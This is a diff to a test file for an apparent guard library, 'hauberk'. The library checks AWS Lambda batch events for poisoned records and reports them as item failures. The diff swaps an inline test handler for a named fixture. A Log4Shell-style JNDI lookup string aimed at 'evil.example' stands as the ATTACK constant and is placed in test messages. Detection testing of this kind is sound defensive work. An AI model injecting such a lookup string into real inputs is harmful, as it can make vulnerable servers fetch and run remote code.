@@ -7,30 +7,6 @@ from protected import oldest_and_newest, policy
 
 pytestmark = oldest_and_newest
 ATTACK = "${jndi:ldap://evil.example/a}"
-CODE = """
-import json, os
-
-ANSWERS = {
-    "nothing": None,
-    "text": "done",
-    "empty": {},
-    "null": {"batchItemFailures": None},
-    "own": {"batchItemFailures": [{"itemIdentifier": "own"}], "state": {"n": 1}},
-    "same": {"batchItemFailures": [{"itemIdentifier": "2"}]},
-    "bytes": b'{"batchItemFailures": [{"itemIdentifier": "own"}]}',
-    "malformed": {"batchItemFailures": "all of them"},
-}
-
-def handler(event, context):
-    world = os.environ["WORLD"]
-    with open(os.path.join(world, "event"), "w") as file:
-        json.dump(event, file)
-    with open(os.path.join(world, "answer")) as file:
-        answer = file.read()
-    if answer == "raise":
-        raise ValueError("of the function's own")
-    return ANSWERS[answer]
-"""
 
 
 def sqs(number, text, group=None):
@@ -118,17 +94,17 @@ KINDS = pytest.mark.parametrize(
 
 @pytest.fixture(scope="module")
 def reporting(start):
-    return start(CODE, {"HAUBERK_POLICY": policy(batch="report-item-failures")})
+    return start("batches", {"HAUBERK_POLICY": policy(batch="report-item-failures")})
 
 
 @pytest.fixture(scope="module")
 def refusing(start):
-    return start(CODE, {"HAUBERK_POLICY": policy()})
+    return start("batches", {"HAUBERK_POLICY": policy()})
 
 
 @pytest.fixture(scope="module")
 def plain(start):
-    return start(CODE, None)
+    return start("batches", None)
 
 
 def invoke(running, event, answer="nothing"):
@@ -189,10 +165,10 @@ def test_an_exception_of_the_handler_is_its_own(reporting, plain):
 
 
 def test_where_all_are_poisoned_the_handler_does_not_run(reporting):
-    handled, seen = invoke(reporting, batch(sqs("1", ATTACK), sqs("2", ATTACK)), "own")
+    handled, seen = invoke(reporting, batch(sqs("8", ATTACK), sqs("9", ATTACK)), "own")
     assert handled is None
-    assert seen.value == failed("1", "2")
-    assert [one["item"] for one in seen.detections] == ["1", "2"]
+    assert seen.value == failed("8", "9")
+    assert [one["item"] for one in seen.detections] == ["8", "9"]
 
 
 def test_what_is_in_no_record_fails_the_whole_batch(reporting):
@@ -219,7 +195,9 @@ def test_a_clean_batch_is_answered_as_without_the_guard(reporting, plain, answer
 
 
 def test_in_detect_nothing_is_taken_out(start):
-    running = start(CODE, {"HAUBERK_POLICY": policy(mode="detect", batch="report-item-failures")})
+    running = start(
+        "batches", {"HAUBERK_POLICY": policy(mode="detect", batch="report-item-failures")}
+    )
     handled, seen = invoke(running, POISONED, "own")
     assert handled == POISONED
     assert seen.value == {**failed("own"), "state": {"n": 1}}
